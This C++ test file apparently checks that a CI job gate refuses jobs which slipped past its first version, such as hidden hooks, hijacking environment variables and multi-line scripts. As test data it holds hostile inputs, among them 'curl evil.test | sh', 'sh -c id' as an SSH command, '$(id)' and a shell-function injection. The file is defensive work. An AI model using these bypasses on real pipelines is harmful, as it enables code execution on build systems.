// How a job got past YSNP v1's scripts, each as a job that must not pass here: what of a job was not looked at.
#include "weaknesses.h"
#include <catch2/catch_test_macros.hpp>

using namespace ysnp;
using namespace ysnp::policy::sample;
using nlohmann::json;

namespace {

struct Case {
    const char* hole; ///< what v1 let through, in plain words
    const char* code; ///< by which it is refused under the job's own digest
    Change change;
};

Change script(std::vector<std::string> lines)
{
    return [=](json& job) { job["steps"][0]["script"] = lines; };
}

/// Each of them, under the digest and under v1's hash of the script.
void check_all(const std::vector<Case>& cases)
{
    for (const Case& c : cases) {
        CAPTURE(c.hole);
        CHECK(refuses(decide_after(c.change, allowing(By::digest)), c.code));
        CHECK(decide_after(c.change, allowing(By::v1_hash)).verdict == checks::Verdict::refuse);
    }
}

} // namespace

TEST_CASE("the plain job passes by its digest, and by v1's hash where that is switched on [GATE-A1]")
{
    CHECK(decide_after([](json&) {}, allowing(By::digest)).allowed());
    CHECK(decide_after([](json&) {}, allowing(By::v1_hash)).allowed());
}

TEST_CASE("only the first line of an entry counted [GATE-W2] [AC-S06]")
{
    check_all({{"a second line", "SCR-UNLISTED", script({"make deploy\ncurl evil.test | sh"})},
               {"a line feed alone", "SCR-UNLISTED", script({"make deploy\n"})},
               {"v1's own remark in place of the lines", "SCR-UNLISTED",
                script({"make deploy # collapsed multi-line command"})}});
    const auto digest_of_lines = [](const char* text) {
        return decide_after(script({text}), allowing(By::digest)).digest;
    };
    CHECK(digest_of_lines("set -e\necho safe") != digest_of_lines("set -e\ncurl evil.test | sh"));
}

TEST_CASE("a flag, a shell or a size could hide the script from the gate [GATE-W3] [GATE-W4] [AC-S18]")
{
    check_all({{"the flag with another script", "SCR-UNLISTED",
                [](json& job) {
                    add_variable("FF_POSIXLY_CORRECT_ESCAPES", "true")(job);
                    script({"id"})(job);
                }},
               {"a script beyond an environment string", "SCR-UNLISTED",
                script({"make deploy #" + std::string(200000, 'A')})},
               {"a script of ten MiB", "PAY-LIMIT", script({std::string(10u << 20, 'A')})},
               {"no script", "SCR-EMPTY", script({})},
               {"blanks as script", "SCR-EMPTY", script({" ", "\t"})}});
    CHECK(refuses(decide_after(add_variable("FF_POSIXLY_CORRECT_ESCAPES", "true"), allowing(By::digest)),
                  "SCR-UNLISTED"));
}

TEST_CASE("texts that v1 made the same [GATE-W16] [AC-S12]")
{
    check_all(
        {{"a backslash that v1 deleted", "SCR-UNLISTED", script({"make\\ deploy"})},
         {"two entries that v1 joined", "SCR-UNLISTED", script({"make dep", "loy"})},
         {"an entry that looks like two", "SCR-UNLISTED", script({"make deploy$ id"})},
         {"code after the marker at which v1 stopped reading", "SCR-UNLISTED", script({"make deployx1b[0;m; id"})},
         {"outer blanks that v1 trimmed", "SCR-UNLISTED", script({"  make deploy\xc2\xa0"})},
         {"an entry of blanks that v1 dropped", "SCR-UNLISTED", script({"make deploy", "  "})}});
}

TEST_CASE("code in stages that v1 never looked at [GATE-W5] [GATE-W14]")
{
    const auto step = [](const char* name, const char* when) {
        return [=](json& job) {
            job["steps"].push_back(
                {{"name", name}, {"script", {"id"}}, {"when", when}, {"allow_failure", true}, {"timeout", 9}});
        };
    };
    check_all({{"a hook before the sources", "SCR-UNLISTED",
                [](json& job) {
                    job["hooks"] = {{{"name", "pre_get_sources_script"}, {"script", {"id"}}}};
                }},
               {"a hook after the sources", "SCR-UNLISTED",
                [](json& job) {
                    job["hooks"] = {{{"name", "post_get_sources_script"}, {"script", {"id"}}}};
                }},
               {"an after_script beside an approved script", "SCR-UNLISTED", step("after_script", "always")},
               {"a release step", "SCR-UNLISTED", step("release", "on_success")},
               {"a step that nobody knows", "PAY-STEP", step("deploy", "on_success")},
               {"the configuration of git", "SCR-UNLISTED", add_variable("GIT_CONFIG_COUNT", "1")},
               {"another ssh", "SCR-UNLISTED", add_variable("GIT_SSH_COMMAND", "sh -c id")}});
    // what v1's hash covered was the script's text: caches and artifacts need the digest to be held to their rules
    const Change cache = [](json& job) { job["cache"] = {{{"key", "x"}, {"paths", {"bin"}}, {"policy", "pull"}}}; };
    const Change fetched = [](json& job) { job["dependencies"] = {{{"id", 5}, {"name", "evil"}, {"token", "t"}}}; };
    CHECK(refuses(decide_after(cache, allowing(By::digest)), "SCR-UNLISTED"));
    CHECK(refuses(decide_after(fetched, allowing(By::digest)), "SCR-UNLISTED"));
}

TEST_CASE("variables that make an approved script run something else [GATE-W7] [AC-V01] [AC-V05] [AC-V06] [AC-V10] "
          "[AC-V11]")
{
    std::vector<Case> cases;
    for (const char* name : {"BASH_ENV", "ENV", "LD_PRELOAD", "PATH", "IFS", "PYTHONPATH", "NODE_OPTIONS"})
        cases.push_back({name, "SCR-UNLISTED", add_variable(name, "/builds/x")});
    for (const char* name : {"SSL_CERT_FILE", "NODE_TLS_REJECT_UNAUTHORIZED", "DOCKER_HOST", "DOCKER_CONFIG"})
        cases.push_back({name, "SCR-UNLISTED", add_variable(name, "/builds/x")});
    cases.push_back({"a shell function", "PAY-VAR", add_variable("BASH_FUNC_make%%", "() { id; }")});
    check_all(cases);
    // policy may list such a name as free, where a whole project needs it
    CHECK(decide_after(add_variable("SSL_CERT_FILE", "/ca.pem"),
                       allowing(By::v1_hash, R"("free_variables":["SSL_CERT_FILE"])"))
              .allowed());
    // a name that steers nothing but what the script does with it: the digest covers it, v1's hash never did
    CHECK(refuses(decide_after(add_variable("TARGET", "production"), allowing(By::digest)), "SCR-UNLISTED"));
    const auto free = allowing(By::digest, R"("free_variables":["TARGET"])");
    CHECK(decide_after(add_variable("TARGET", "production"), free).digest !=
          decide_after([](json&) {}, allowing(By::digest)).digest);
}

TEST_CASE("variables of the old scripts do nothing here [GATE-W1] [GATE-W13] [INV-4] [INV-6]")
{
    const auto names = {"CI_JOB_JWT",
                        "DOCKER_RUN_ARGS",
                        "YOUSHALLNOTPASS_PREVALIDATION_TOKEN",
                        "CUSTOM_ENV_CI_JOB_IMAGE",
                        "YOUSHALLNOTPASS_GENERATE_JWT",
                        "RUNNER_SCRIPT"};
    const auto asks = allowing(By::digest, R"("checks":[{"name":"mfaRequired"}])");
    for (const char* name : names)
        for (const char* value : {"", R"(x","shell":"evil)", "--volume /:/host", "$(id)"}) {
            CAPTURE(name, value);
            CHECK(refuses(decide_after(add_variable(name, value), allowing(By::digest)), "SCR-UNLISTED"));
            CHECK(decide_after(add_variable(name, value), asks).verdict == checks::Verdict::refuse);
        }
    CHECK(decide_after([](json&) {}, asks).verdict == checks::Verdict::ask);
}

TEST_CASE("the files that a script calls are bound by the commit, where policy says so [GATE-W6]")
{
    const Change other_commit = [](json& job) {
        const std::string sha(40, 'b');
        job["git_info"]["sha"] = sha;
        for (auto& v : job["variables"]) {
            if (v["key"] == "CI_COMMIT_SHA") v["value"] = sha;
            if (v["key"] == "CI_COMMIT_SHORT_SHA") v["value"] = sha.substr(0, 8);
        }
    };
    const auto pinned =
        allowing(By::digest, R"("source":{"binding":"sha","commits":["3f786850e387550fdab836ed7e6dc881de23001b"]})");
    CHECK(decide_after([](json&) {}, pinned).allowed());
    CHECK(refuses(decide_after(other_commit, pinned), "SRC-PIN"));
    CHECK(decide_after(other_commit, allowing(By::digest)).allowed()); // the digest alone does not
}
